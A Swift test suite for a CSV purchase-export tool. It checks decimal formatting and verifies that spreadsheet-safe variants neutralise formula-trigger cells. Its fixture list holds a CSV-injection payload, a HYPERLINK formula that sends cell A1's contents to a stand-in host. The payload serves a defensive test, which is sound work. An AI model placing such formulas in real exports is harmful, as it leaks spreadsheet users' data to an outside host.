import Export
import Foundation
import GRDB
import Testing
import Warehouse

/// A CSV a spreadsheet cannot misread: never exactly three decimals, and formula triggers
/// neutralised in the spreadsheet variants (the default stays byte-exact).
@Suite struct SpreadsheetSafetyTests {
    static let formulas = [
        "=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"Klik hier\")", "+31 20 123 4567", "-korting", "@SUM(A1:A9)",
        "\tTab B.V.", "\rCR B.V.",
    ]

    func export(_ rows: [PurchaseRow], _ options: ExportOptions) throws -> (bytes: [UInt8], parsed: [[String]]) {
        let folder = try TemporaryFolder()
        let (_, queue) = try Fixtures.warehouse(in: folder, rows: rows)
        let out = folder.file("x.csv")
        _ = try exportPurchases(queue, options: options, to: .file(out))
        let parsed = try Fixtures.parseCSV(out, delimiter: String(UnicodeScalar(options.delimiter)), encoding: options.bom ? "utf-8-sig" : "utf-8")
        return (try Fixtures.read(out), parsed)
    }

    @Test func exactlyThreeDecimalsGetAFourth() throws {
        let row = PurchaseRow(quantityBought: "12.375", quantityBilled: "12.3", cost: 45_375_000, sell: 45_380_000, margin: 5_000, vat: 9_528_750)
        let plain = try export([row], ExportOptions())
        #expect(String(decoding: plain.bytes, as: UTF8.self).hasSuffix(",EUR,12.3750,12.3,45.3750,45.38,0.0050,matched,purchase,,invoice,,9.52875\r\n"))
        let dutch = try export([row], ExportOptions(delimiter: UInt8(ascii: ";"), decimalComma: true, bom: true))
        #expect(String(decoding: dutch.bytes, as: UTF8.self).hasSuffix(";EUR;12,3750;12,3;45,3750;45,38;0,0050;matched;purchase;;invoice;;9,52875\r\n"))
        // The value is unchanged.
        #expect(try Fixtures.micros(dutch.parsed[1][14], decimalComma: true) == 45_375_000)
    }

    @Test func theDefaultCSVKeepsTextByteForByte() throws {
        let rows = Self.formulas.map { PurchaseRow(customerName: $0) }
        let plain = try export(rows, ExportOptions(delimiter: UInt8(ascii: "\t")))
        // Rows that tie on the sort keys come out ordered by their other columns (customer_name here).
        #expect(plain.parsed.dropFirst().map { $0[4] } == Self.formulas.sorted())
        let semicolon = try export(rows, ExportOptions(delimiter: UInt8(ascii: ";")))
        #expect(semicolon.parsed.dropFirst().map { $0[4] } == Self.formulas.sorted())
        // --no-spreadsheet-safe: a decimal comma and a BOM for an import that takes text as stored.
        let refused = try export(rows, ExportOptions(delimiter: UInt8(ascii: ";"), decimalComma: true, bom: true, spreadsheetSafe: false))
        #expect(refused.parsed.dropFirst().map { $0[4] } == Self.formulas.sorted())
    }

    @Test(arguments: [
        ExportOptions(spreadsheetSafe: true),
        ExportOptions(delimiter: UInt8(ascii: ";"), decimalComma: true, bom: true),
        ExportOptions(bom: true),
        ExportOptions(decimalComma: true),
    ])
    func theSpreadsheetVariantsPrefixFormulaTriggers(options: ExportOptions) throws {
        var rows = Self.formulas.map { PurchaseRow(customerName: $0) }
        rows.append(PurchaseRow(invoiceDate: "2026-10-31", customerNumber: "-0417", customerName: "plain", description: "=1+1", quantityBought: "-1",
                                cost: -1_000_000, sell: -1_200_000, margin: -200_000))
        let (_, parsed) = try export(rows, options)
        #expect(parsed.dropFirst().map { $0[4] }.prefix(Self.formulas.count).elementsEqual(Self.formulas.sorted().map { "'" + $0 }))
        let last = try #require(parsed.last)
        #expect(last[3] == "'-0417" && last[4] == "plain" && last[7] == "'=1+1")
        // Numbers are numbers: a negative amount or quantity is never prefixed.
        #expect(last[12] == "-1" && last[14].hasPrefix("-1"))
    }

    @Test func jsonlRefusesSpreadsheetSafe() throws {
        #expect(throws: ExportError.self) { try ExportOptions(format: .jsonl, spreadsheetSafe: true).validate() }
    }
}
